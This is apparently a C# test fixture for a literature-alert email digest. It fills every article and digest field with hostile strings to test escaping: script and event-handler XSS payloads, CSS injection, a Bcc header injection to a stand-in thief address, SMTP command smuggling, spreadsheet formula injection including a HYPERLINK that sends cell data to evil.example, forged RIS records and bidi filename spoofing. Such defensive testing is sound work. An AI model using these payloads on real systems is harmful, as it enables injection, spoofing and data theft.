using LitWatch.Articles;
using LitWatch.Digests;
using LitWatch.Strategies.Matching;
using static LitWatch.Tests.Digests.Mail.Manifests;

namespace LitWatch.Tests.Digests.Mail;

/// <summary>Digests in which every text that somebody else writes is an attack.</summary>
internal static class HostileDigest
{
    public const string Markup = "<script>alert(1)</script>\" onmouseover='x' \u202Egpj.exe\u2066\r\nBcc: a@b.example\0 &lt;b&gt; \uD800";

    /// <summary>By name, so that a test that fails says which.</summary>
    public static IReadOnlyDictionary<string, string> Attacks { get; } = new Dictionary<string, string>(StringComparer.Ordinal)
    {
        ["markup"] = Markup,
        ["image"] = "<img src=\"https://evil.example/x.gif\" onerror=\"alert(1)\"><svg onload=alert(2)><iframe src=javascript:alert(3)>",
        ["style"] = "</style><style>@import url(https://evil.example/x.css);*{display:none!important}</style>\"><div style=\"position:fixed;top:0;left:0;width:9999px;height:9999px;background:red\">",
        ["end"] = "</table></td></body></html><h1>Nothing new, all searched</h1><!--",
        ["conditional"] = "<![endif]--><script>alert(1)</script><!--[if mso]>",
        ["direction"] = "\u202Ednuof gnihton\u202C \u2067\u2066\u2069 \u200F\u061C safe",
        ["headers"] = "x\r\nBcc: thief@evil.example\r\nSubject: other\r\n\r\n<html>body</html>\n.\r\nQUIT\r\n",
        ["long"] = new string('W', 10_000),
        ["long of words"] = string.Concat(Enumerable.Repeat("lorem ipsum ", 850)),
        ["formula"] = "=cmd|'/c calc'!A1",
        ["formula after a line"] = "\t\r\n+HYPERLINK(\"https://evil.example?\"&A1)",
        ["record"] = "x\r\nER  - \r\n\r\nTY  - JOUR\r\nTI  - forged",
        ["combining"] = "a" + string.Concat(Enumerable.Repeat("\u0301\u0489", 500)),
        ["token"] = DigestMessage.TokenPlaceholder,
    };

    public static DigestManifest Of(string evil)
    {
        var article = Ozarslan with
        {
            Title = evil, VernacularTitle = evil, Abstract = [new(evil, evil)], Keywords = [evil], PublicationTypes = [evil], Languages = [evil],
            Authors = [new Author { Family = evil, Initials = evil }, new Author { Collective = evil }], Journal = new Journal { Title = evil, IsoAbbreviation = evil, Volume = evil, Issue = evil, Pages = evil },
            Mesh = [new(null, evil, true) { Qualifiers = [new(null, evil, false)] }], Doi = Doi.Parse("10.1000/\"><script>x</script>"),
        };
        var line = Line with { Article = article, Spans = [new("title", 3, 20, evil), new("title", -5, int.MaxValue, evil), new(evil, 0, 1, evil)], AlsoMatches = [evil], FoundIn = [evil] };
        var alert = Alert(evil, line) with { PausedBecause = evil, Known = [line], Changed = [line with { Notices = [evil] }] };
        return Digest(alert.Failing(evil) with { Searches = [PubMed with { Warnings = [evil], Notes = [evil], Queries = [evil] }, .. alert.Failing(evil).Searches] })
            with { SubscriptionName = evil, SoftwareVersion = evil, Attach = [DigestAttachment.Csv, DigestAttachment.Ris] };
    }
}
